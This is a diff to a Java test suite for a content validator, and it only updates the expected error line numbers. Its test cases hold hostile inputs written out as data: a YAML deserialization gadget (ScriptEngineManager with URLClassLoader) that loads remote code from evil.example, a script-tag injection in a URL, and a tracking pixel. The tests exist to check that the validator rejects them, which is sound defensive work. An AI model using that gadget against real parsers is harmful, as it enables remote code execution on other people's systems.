@@ -49,22 +49,22 @@ class BadInputTest {
                 new Case("alias bomb", "glossary/bomb.yaml", utf8(bomb), "glossary/bomb.yaml:1: YAML anchors (&a) are not allowed"),
                 new Case("ScriptEngineManager tag", "content/en/articles/tag.md",
                         utf8(FM + "terms: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n---\nBody\n"),
-                        "content/en/articles/tag.md:9: front matter: YAML tags (!!javax.script.ScriptEngineManager) are not allowed"),
+                        "content/en/articles/tag.md:10: front matter: YAML tags (!!javax.script.ScriptEngineManager) are not allowed"),
                 new Case("invalid UTF-8", "content/en/articles/latin1.md", new byte[]{'-', '-', '-', '\n', 't', 'i', 't', 'l', 'e', ':', ' ', (byte) 0xE9, '\n'},
                         "content/en/articles/latin1.md: the file is not valid UTF-8"),
                 new Case("NUL byte", "content/en/articles/nul.md", utf8(FM + "tags: [a\u0000b]\n---\nBody\n"),
-                        "content/en/articles/nul.md:9: front matter: the file contains a NUL character"),
+                        "content/en/articles/nul.md:10: front matter: the file contains a NUL character"),
                 new Case("empty file", "content/en/articles/empty.md", new byte[0], "content/en/articles/empty.md:1: the file does not start with front matter"),
                 new Case("tabs in indentation", "content/en/articles/tabs.md", utf8("---\ntitle: T\nsource:\n\ttitle: X\n---\nBody\n"),
                         "content/en/articles/tabs.md:4: front matter: invalid YAML"),
                 new Case("duplicate keys", "glossary/dup.yaml", utf8("id: dup\nid: dup\n"), "glossary/dup.yaml:2: duplicate key \"id\""),
                 new Case("number where text is expected", "content/en/articles/number.md", utf8(FM.replace("summary: S.", "summary: 42") + "---\nBody\n"),
-                        "content/en/articles/number.md:4: \"summary\" must be text, not a number (42)"),
+                        "content/en/articles/number.md:5: \"summary\" must be text, not a number (42)"),
                 new Case("external image", "content/en/articles/tracker.md", utf8(FM + "---\n![pixel](https://tracker.example/p.gif)\n"),
-                        "content/en/articles/tracker.md:10: image \"https://tracker.example/p.gif\" would be loaded from another site"),
+                        "content/en/articles/tracker.md:11: image \"https://tracker.example/p.gif\" would be loaded from another site"),
                 new Case("malformed source address", "content/en/articles/badurl.md",
                         utf8(FM.replace("https://example.org/", "https://example.org/?q=\"><script>") + "---\nBody\n"),
-                        "content/en/articles/badurl.md:8: source url is not a valid address"));
+                        "content/en/articles/badurl.md:9: source url is not a valid address"));
     }
 
     @ParameterizedTest(name = "{0}")
